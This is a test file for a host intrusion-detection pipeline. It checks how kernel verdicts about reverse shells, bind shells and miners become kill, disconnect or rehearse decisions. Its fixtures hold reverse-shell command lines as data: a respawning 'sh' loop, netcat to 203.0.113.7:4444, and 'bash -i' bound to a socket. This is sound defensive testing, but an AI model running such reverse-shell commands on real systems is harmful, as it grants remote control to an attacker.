// A kernel verdict on its whole way: event, rule, decision, outcome. Real rules and decisions on a host written as text.
import { describe, expect, test } from "bun:test";
import { join } from "node:path";
import { createChangeWriter } from "../context/events.ts";
import { hostFixture } from "../context/host.fixture.ts";
import { connectionFixture, taskFixture, verdictFixture } from "../core/kernel.fixture.ts";
import type { KernelVerdict } from "../core/kernel.ts";
import { fakeClock, outcomeFixture } from "../core/nouns.fixture.ts";
import type { Decision, Finding } from "../core/nouns.ts";
import type { Process, ProcessRef } from "../core/process.ts";
import { ok } from "../core/result.ts";
import type { HostView } from "../core/view.ts";
import { createKillBudget } from "../decision/budget.ts";
import { policyFixture } from "../decision/policy.fixture.ts";
import type { Policy } from "../decision/policy.ts";
import { wiredShellDetector } from "../detection/detectors/wired_shell.ts";
import { createEngine } from "../detection/engine.ts";
import { createKernelProcesses } from "../sources/kernel_processes.ts";
import { createKernelStops } from "../sources/kernel_stops.ts";
import { createPipeline } from "./pipeline.ts";
import { readRules } from "./rule_files.ts";

const { rules } = readRules([{ folder: join(import.meta.dir, "../../rules"), origin: "own" }]);

/** A loop in one line (400) whose child (500) is gone; a relay (450) with the connection. */
const HOST = `unit job.service main 400 transient
pid 400 ppid 1 uid 1000 exe /usr/bin/bash
  argv ["bash","-c","while :; do sh; done"]
pid 450 ppid 400 uid 1000 exe /usr/bin/nc.openbsd
  argv ["nc","203.0.113.7","4444"]
  fd 3 rw socket:[9001]
tcp 10.0.0.5:40000 -> 203.0.113.7:4444 inode 9001 sent 1 1 received 1 1`;

const BASH = {
  path: "/usr/bin/bash",
  device: 2_049,
  inode: 77,
  ownerUid: 0,
  mode: 0o755,
  deleted: false,
  memfd: false,
};
const LOOP: ProcessRef = { pid: 400, startedAtTicks: 1_400 };
const RELAY: ProcessRef = { pid: 450, startedAtTicks: 1_450 };

function withGone(view: HostView, gone: readonly Process[]): HostView {
  const processes = new Map([...gone.map((process) => [process.ref.pid, process] as const), ...view.processes]);
  return { ...view, processes };
}

interface Judged {
  readonly finding: Finding;
  readonly decision: Decision;
}

async function judged(verdicts: readonly KernelVerdict[], policy: Partial<Policy> = {}, host = HOST, together = false) {
  const clock = fakeClock();
  const processes = createKernelProcesses({
    files: { executableOf: () => BASH, learn: () => undefined },
    cgroups: { pathOf: () => "/system.slice/job.service", idOf: () => undefined },
    nowMs: clock.nowMs,
  });
  const stops = createKernelStops(processes);
  const found: Judged[] = [];
  const budget = createKillBudget();
  const pipeline = createPipeline({
    clock,
    context: { update: async () => hostFixture(host).view },
    changes: createChangeWriter(),
    stops: (view) => stops.take(view, (gone) => withGone(view, gone)),
    detectors: [wiredShellDetector],
    follows: () => [],
    engine: () => createEngine(rules),
    policy: () => policyFixture(policy),
    budget,
    store: {
      appendEvents: () => undefined,
      recordFinding: (finding) => ({ alertId: finding.foldKey, count: 1, isNew: true }),
      intend: () => ok(undefined),
      settle: () => undefined,
    },
    tell: {
      judged: ({ finding, decision }) => void found.push({ finding, decision }),
      unrecorded: () => undefined,
      fault: (part, message) => {
        throw new Error(`${part}: ${message}`);
      },
    },
    breathe: () => undefined,
    act: {
      kill: async (decision) => outcomeFixture({ decisionId: decision.id, killed: decision.plan.kill }),
      disconnect: (decision) => outcomeFixture({ decisionId: decision.id, killed: [] }),
    },
  });
  const sweep = () =>
    pipeline.run({ sockets: { internet: hostFixture(host).sockets, unix: [], packet: [] }, urgent: true });
  for (const verdict of verdicts) {
    stops.hear(verdict);
    if (!together) await sweep();
  }
  if (together) await sweep();
  const used = budget.states(10, clock.nowMs()).reduce((sum, state) => sum + state.used, 0);
  return { found, used, counts: pipeline.counts };
}

function words({ decision }: Judged): string {
  const pids = "plan" in decision ? decision.plan.kill.map(({ pid }) => pid) : [];
  const sockets = "plan" in decision ? decision.plan.sockets.map(({ inode }) => inode) : [];
  return [decision.do, decision.rule.name, ...pids, ...sockets].join(" ");
}

const ROWS: readonly [sentence: string, verdict: Partial<KernelVerdict>, policy: Partial<Policy>, expected: string][] =
  [
    ["a killed shell is a kill of the same rule, and its connection goes too", {}, {}, "kill reverse_shell 9001"],
    ["who holds the other end falls with it", { holder: RELAY }, {}, "kill reverse_shell 450 9001"],
    ["a bind shell is one", { rule: "bind_shell", stage: "receive", shape: "receives" }, {}, "kill bind_shell 9001"],
    [
      "a login to a pool that was cut off is a miner that is killed",
      {
        rule: "miner_confirmed",
        stage: "send",
        shape: "stratum",
        action: "dropped",
        task: taskFixture({ ref: RELAY }),
      },
      {},
      "kill miner_confirmed 450 9001",
    ],
    [
      "a refused connection to a pool kills nobody",
      {
        rule: "miner_confirmed",
        stage: "connect",
        shape: "pool",
        action: "refused",
        task: taskFixture({ ref: RELAY }),
      },
      {},
      "disconnect miner_confirmed",
    ],
    [
      "a shell whose connection was refused is killed here",
      { stage: "connect", action: "refused", shape: "relay-tool", task: taskFixture({ ref: RELAY }) },
      {},
      "kill reverse_shell 450 9001",
    ],
    [
      "what the kernel only rehearsed is rehearsed",
      { action: "rehearsed", holder: RELAY },
      { mode: "monitor" },
      "rehearse reverse_shell 450 9001",
    ],
    [
      "a rehearsed one that ended by itself is told all the same",
      { action: "rehearsed" },
      { mode: "monitor" },
      "rehearse reverse_shell 9001",
    ],
    [
      "after a change to monitor the rest of what was killed lives",
      { holder: RELAY },
      { mode: "monitor" },
      "kill reverse_shell",
    ],
    [
      "an exception that came too late saves the rest of it",
      { holder: RELAY },
      { exceptions: [{ rule: "reverse_shell", peer: "203.0.113.7", reason: "normal" }] },
      "kill reverse_shell",
    ],
  ];

describe("a verdict of the kernel", () => {
  for (const [sentence, verdict, policy, expected] of ROWS)
    test(sentence, async () => {
      const { found, used } = await judged([verdictFixture(verdict)], policy);
      expect(found.map(words)).toEqual([expected]);
      expect(used).toBe(0);
    });

  test("names the shape, the parent, the policy and the dead process", async () => {
    const { found } = await judged([verdictFixture()]);
    const { finding, decision } = found[0] ?? {};
    expect(finding?.title).toBe(
      "/usr/bin/bash takes commands from 203.0.113.7:4444 over a connection this host opened (stopped by the kernel at exec: its own input and output are the connection)",
    );
    expect(finding?.event.fields).toMatchObject({
      "process.pid": 500,
      "process.command_line": "bash -i",
      "process.parent.command_line": "bash -c while :; do sh; done",
      "process.unit": "job.service",
      "kernel.stage": "exec",
      "kernel.generation": 7,
      "source.port": 40_000,
    });
    expect(decision?.reasons).toContain("the kernel killed it at exec, by the policy of generation 7");
    expect(decision).toMatchObject({
      plan: { stopped: { action: "killed", process: { pid: 500 }, ancestors: [LOOP] } },
    });
  });

  test("a loop that starts it again is killed with the second, and nothing is spent", async () => {
    const next = verdictFixture({ task: taskFixture({ ref: { pid: 501, startedAtTicks: 1_501 } }) });
    const { found, used } = await judged([verdictFixture(), next]);
    expect(found.map(words)).toEqual(["kill reverse_shell 9001", "kill reverse_shell 400 9001"]);
    expect(used).toBe(0);
  });

  test("a thousand equal ones in one look are one, with their number", async () => {
    const many = Array.from({ length: 1_000 }, (_, index) =>
      verdictFixture({ task: taskFixture({ ref: { pid: 1_000 + index, startedAtTicks: 2_000 + index } }) }),
    );
    const { found } = await judged(many, {}, HOST, true);
    expect(found.map(({ finding }) => finding.event.fields["kernel.times"])).toEqual([1_000]);
  });

  test("what the scan sees of the same kill is no second one", async () => {
    const seen = `${HOST}
pid 500 ppid 400 uid 1000 exe /usr/bin/bash
  argv ["bash","-i"]
  fd 0 rw socket:[9001]
  fd 1 rw socket:[9001]`;
    const { found, counts } = await judged([verdictFixture({ connection: connectionFixture() })], {}, seen);
    expect(found.map(words)).toEqual(["kill reverse_shell 500 9001"]);
    expect(counts.kills).toBe(1);
  });
});
